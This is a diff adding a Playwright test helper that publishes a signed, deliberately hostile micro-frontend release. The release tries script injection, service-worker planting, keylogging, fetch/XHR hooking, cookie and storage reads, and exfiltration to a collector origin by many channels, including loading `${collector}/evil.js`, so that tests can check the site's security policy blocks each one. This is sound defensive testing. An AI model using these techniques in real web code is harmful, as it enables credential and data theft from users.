@@ -1,0 +1,289 @@
+import { generateKeyPairSync } from 'node:crypto';
+import { writeFile } from 'node:fs/promises';
+import { join } from 'node:path';
+import type { Page } from '@playwright/test';
+import type { Site } from '../../site/launch-site';
+import { tokenOf } from '../operator';
+import { signatureOf } from '../paper-remote';
+import type { Collector } from './collector';
+
+export const name = 'mf-hostile';
+export const path = '/hostile';
+const entry = 'remoteEntry.0a1b2c3d.js';
+export const fileOf = (version: string, file: string) => `/remotes/${name}/${version}/${file}`;
+
+/**
+ * What the release tries, each in its own code, so that the policy of the page holds for it. What is blocked by an event of the
+ * browser is `blocked`; nothing here waits for an answer that never comes.
+ */
+function attacks(files: string, collector: string, stun: string) {
+  const settled = (work: Promise<unknown>) =>
+    work.then(
+      () => 'done',
+      () => 'blocked',
+    );
+  /** In a task of its own: the one that the debugger has begun may evaluate what it likes. */
+  const later = (act: () => unknown) => settled(new Promise((done) => setTimeout(done)).then(act));
+  const loaded = (element: HTMLElement & { src?: string }) =>
+    new Promise<string>((done) => {
+      element.onload = () => done('done');
+      element.onerror = () => done('blocked');
+      document.body.append(element);
+    });
+  const violated = (act: () => void, directive: string) =>
+    new Promise<string>((done) => {
+      document.addEventListener('securitypolicyviolation', (event) => {
+        if (event.effectiveDirective === directive) done('blocked');
+      });
+      act();
+    });
+  const made = <Name extends keyof HTMLElementTagNameMap>(tag: Name, of: object) =>
+    Object.assign(document.createElement(tag), of);
+  const register = (script: string, scope: string) => settled(navigator.serviceWorker.register(script, { scope }));
+  const readable = async (path: string, headers = {}) => (await fetch(path, { headers })).status;
+
+  return {
+    // what it is given
+    cookies: async () => document.cookie,
+    staff: () => readable('/api/v1/staff/reviews', { 'x-tafiya-ops': '1' }),
+    tokens: () => readable('/releases/api/tokens', { 'x-tafiya-ops': '1' }),
+    // code
+    foreignScript: () => loaded(made('script', { src: `${collector}/evil.js` })),
+    foreignModule: () => settled(import(/* webpackIgnore: true */ `${collector}/evil.js`)),
+    dataScript: () => loaded(made('script', { src: 'data:text/javascript,globalThis.ran=1' })),
+    blobScript: () => loaded(made('script', { src: URL.createObjectURL(new Blob(['globalThis.ran=1'])) })),
+    answerAsScript: (address: string) => loaded(made('script', { src: address })),
+    inlineScript: () =>
+      violated(() => document.body.append(made('script', { textContent: 'globalThis.ran=1' })), 'script-src-elem'),
+    handler: () => violated(() => document.body.setAttribute('onclick', 'globalThis.ran=1'), 'script-src-attr'),
+    javascriptAddress: () =>
+      violated(() => made('a', { href: 'javascript:void(globalThis.ran=1)' }).click(), 'script-src-elem'),
+    // biome-ignore lint/security/noGlobalEval: it is what is to be refused
+    evaluated: () => later(() => eval('globalThis.ran=1')),
+    madeFunction: () => later(() => new Function('globalThis.ran=1')()),
+    serviceWorkerForAll: () => register(`${files}worker.js`, '/'),
+    serviceWorkerForItsFolder: () => register(`${files}worker.js`, files),
+    worker: () => workerRuns(() => new Worker(`${files}worker.js`)),
+    sharedWorker: () => workerRuns(() => new SharedWorker(`${files}worker.js`)),
+    // data out
+    fetch: () => settled(fetch(`${collector}/fetch`, { mode: 'no-cors' })),
+    beacon: () => violated(() => navigator.sendBeacon(`${collector}/beacon`, 'x'), 'connect-src'),
+    events: () => opened(new EventSource(`${collector}/events`)),
+    socket: () => opened(new WebSocket(`${collector.replace('http', 'ws')}/socket`)),
+    image: () => loaded(made('img', { src: `${collector}/image` })),
+    style: () => loaded(made('link', { rel: 'stylesheet', href: `${collector}/style` })),
+    preload: () =>
+      violated(
+        () => document.head.append(made('link', { rel: 'preload', as: 'script', href: `${collector}/preload` })),
+        'script-src-elem',
+      ),
+    prefetch: () =>
+      violated(
+        () => document.head.append(made('link', { rel: 'prefetch', href: `${collector}/prefetch` })),
+        'default-src',
+      ),
+    font: () => settled(new FontFace('x', `url(${collector}/font)`).load()),
+    video: () => opened(made('video', { src: `${collector}/video` })),
+    object: () => violated(() => document.body.append(made('object', { data: `${collector}/object` })), 'object-src'),
+    background: () =>
+      violated(() => {
+        document.body.style.backgroundImage = `url(${collector}/background)`;
+      }, 'img-src'),
+    form: () =>
+      violated(() => {
+        const form = made('form', { action: `${collector}/form`, method: 'post' });
+        document.body.append(form);
+        form.submit();
+      }, 'form-action'),
+    frame: () => violated(() => document.body.append(made('iframe', { src: `${collector}/frame` })), 'frame-src'),
+    frameOfTheSite: () => violated(() => document.body.append(made('iframe', { src: '/terms' })), 'frame-src'),
+    ping: () =>
+      violated(() => {
+        const link = made('a', { href: '#', ping: `${collector}/ping` });
+        document.body.append(link);
+        link.click();
+      }, 'connect-src'),
+    /** Another document of the site, in a window that this one has opened, sends for it, or registers its worker. */
+    windowOf: async (address: string) => {
+      const opened = window.open(address) as (Window & typeof globalThis) | null;
+      if (!opened) return 'no window';
+      await new Promise<void>((done) => {
+        const look = () =>
+          opened.location.href !== 'about:blank' && opened.document.readyState === 'complete'
+            ? done()
+            : setTimeout(look, 20);
+        look();
+      });
+      const outcomes = await Promise.all([
+        settled(opened.fetch(`${collector}/window`, { mode: 'no-cors' })),
+        settled(opened.navigator.serviceWorker.register(`${files}worker.js`, { scope: files })),
+      ]);
+      opened.close();
+      return outcomes.includes('done') ? 'done' : 'blocked';
+    },
+    navigate: async () => location.assign(`${collector}/navigated?secret`),
+    popup: async () => {
+      window.open(`${collector}/popup?secret`, '', 'noopener');
+    },
+    async webrtc() {
+      const peer = new RTCPeerConnection({ iceServers: [{ urls: stun }] });
+      peer.createDataChannel('x');
+      await peer.setLocalDescription(await peer.createOffer());
+    },
+    // what it finds in its realm
+    storage: async () => ({
+      local: { ...localStorage },
+      session: { ...sessionStorage },
+      caches: await caches.keys(),
+      databases: (await indexedDB.databases()).map((one) => one.name),
+    }),
+    listen: async () => {
+      const typed: string[] = [];
+      Object.assign(globalThis, { typed });
+      document.addEventListener('input', ({ target }) => typed.push((target as HTMLInputElement).value), true);
+    },
+    replaceCalls: async () => {
+      const seen: unknown[] = [];
+      Object.assign(globalThis, { seen });
+      const { send } = XMLHttpRequest.prototype;
+      XMLHttpRequest.prototype.send = function (body) {
+        seen.push(body);
+        send.call(this, body);
+      };
+      const real = globalThis.fetch;
+      globalThis.fetch = (...of) => {
+        seen.push(of[1]?.body);
+        return real(...of);
+      };
+      // what makes the bodies, for callers that have taken the functions above before
+      const { stringify } = JSON;
+      JSON.stringify = ((...of: Parameters<typeof stringify>) => {
+        const text = stringify(...of);
+        seen.push(text);
+        return text;
+      }) as typeof stringify;
+    },
+    live: async () => {
+      Object.assign(globalThis, { beats: 0 });
+      setInterval(() => {
+        (globalThis as unknown as { beats: number }).beats += 1;
+      }, 20);
+    },
+    /** The tab asks for the map after each move, and never gets it. */
+    deafen: async () => {
+      const unanswered: string[] = [];
+      Object.assign(globalThis, { unanswered });
+      globalThis.fetch = (of) => {
+        unanswered.push(String(of instanceof Request ? of.url : of));
+        return new Promise(() => undefined);
+      };
+    },
+  };
+
+  function workerRuns(make: () => Worker | SharedWorker) {
+    return new Promise<string>((done) => {
+      try {
+        const worker = make();
+        worker.onerror = () => done('blocked');
+        const port = worker instanceof SharedWorker ? worker.port : worker;
+        port.onmessage = () => done('done');
+      } catch {
+        done('blocked');
+      }
+    });
+  }
+  function opened(of: EventSource | WebSocket | HTMLVideoElement) {
+    return new Promise<string>((done) => {
+      of.onerror = () => done('blocked');
+      if ('onopen' in of) of.onopen = () => done('done');
+      else of.onloadeddata = () => done('done');
+    });
+  }
+}
+
+export type Attack = keyof ReturnType<typeof attacks>;
+
+const containerOf = (version: string) => `mf_hostile_${version.replace(/\W/g, '_')}`;
+
+const container = (version: string, attack: string) => `(() => {
+let scope;
+const shared = async (key) => (await Object.values(scope[key])[0].get())();
+globalThis.${containerOf(version)} = {
+  init(given) { scope = given; ${attack} },
+  async get() {
+    const { createElement: h } = await shared('react');
+    const { Link } = await shared('react-router-dom');
+    return () => ({ default: () => h('div', null, h('h1', null, 'Hostile ${version}'), h(Link, { to: '/contact' }, 'Write to us')) });
+  },
+};
+})();`;
+
+/** Answers whoever loads it as a worker, and opens its folder as a page of its own. */
+const worker = `
+globalThis.postMessage?.('runs');
+addEventListener('connect', ({ ports: [port] }) => port.postMessage('runs'));
+addEventListener('fetch', (event) => event.respondWith(new Response('<h1>Planted</h1>', { headers: { 'content-type': 'text/html' } })));`;
+const picture =
+  '<svg xmlns="http://www.w3.org/2000/svg" width="9" height="9"><rect width="9" height="9" style="fill:red"/></svg>';
+
+/** @param isHostile whether it has the attacks, to be called one by one: `globalThis.attacks` */
+function hostileRelease(version: string, isHostile: boolean, { origin, stun }: Collector) {
+  const files = JSON.stringify(fileOf(version, ''));
+  const code = `globalThis.attacks = (${attacks})(${files}, ${JSON.stringify(origin)}, ${JSON.stringify(stun)});`;
+  // in the order of their names, as the manifest has them
+  const contents = {
+    'picture.svg': picture,
+    [entry]: container(version, isHostile ? code : ''),
+    'worker.js': worker,
+  };
+  return {
+    build: { name, version, container: containerOf(version), entry, modules: { './page': [] } },
+    declaration: {
+      name,
+      title: 'Hostile',
+      contract: '^1.0.0',
+      routes: [{ path, module: './page', head: { title: `Hostile ${version}` } }],
+      widgets: [],
+    },
+    files: Object.entries(contents).map(([file, text]) => ({ file, content: Buffer.from(text).toString('base64') })),
+    by: 'a squad',
+    commit: null,
+  };
+}
+
+/** Has the release try one of them in the tab. */
+export const attack = (page: Page, which: Attack, of?: string): Promise<unknown> =>
+  page.evaluate(
+    ([what, argument]) =>
+      (globalThis as unknown as { attacks: Record<string, (of?: string) => Promise<unknown>> }).attacks[
+        what as string
+      ]?.(argument),
+    [which, of] as const,
+  );
+
+/** Its squad, with a token and a trusted key of its own: everything that the registry asks for. */
+export async function hostileSquad({ origin, dataDir, ...site }: Site, collector: Collector) {
+  const { privateKey, publicKey } = generateKeyPairSync('ed25519');
+  const spki = publicKey.export({ type: 'spki', format: 'der' }).toString('base64');
+  const keys = [{ holder: 'hostile squad', publicKey: spki, names: [name] }];
+  await writeFile(join(dataDir, 'trusted-keys.json'), JSON.stringify({ keys }));
+  const post = async <Data>(to: string, token: string, body: object): Promise<Data> => {
+    const answer = await fetch(`${origin}/releases/api${to}`, {
+      method: 'POST',
+      headers: { 'content-type': 'application/json', authorization: `Bearer ${token}` },
+      body: JSON.stringify(body),
+    });
+    if (!answer.ok) throw new Error(`${to} answered ${answer.status}: ${await answer.text()}`);
+    return ((await answer.json()) as { data: Data }).data;
+  };
+  const order = { holder: 'hostile squad', role: 'squad', names: [name], by: 'Obi' };
+  const operator = await tokenOf({ origin, dataDir, ...site });
+  const { token } = await post<{ token: string }>('/tokens', operator, order);
+  return {
+    publish(version: string, isHostile: boolean) {
+      const release = hostileRelease(version, isHostile, collector);
+      const signature = signatureOf(release, privateKey);
+      return post('/releases', token, { ...release, signature, live: true });
+    },
+  };
+}
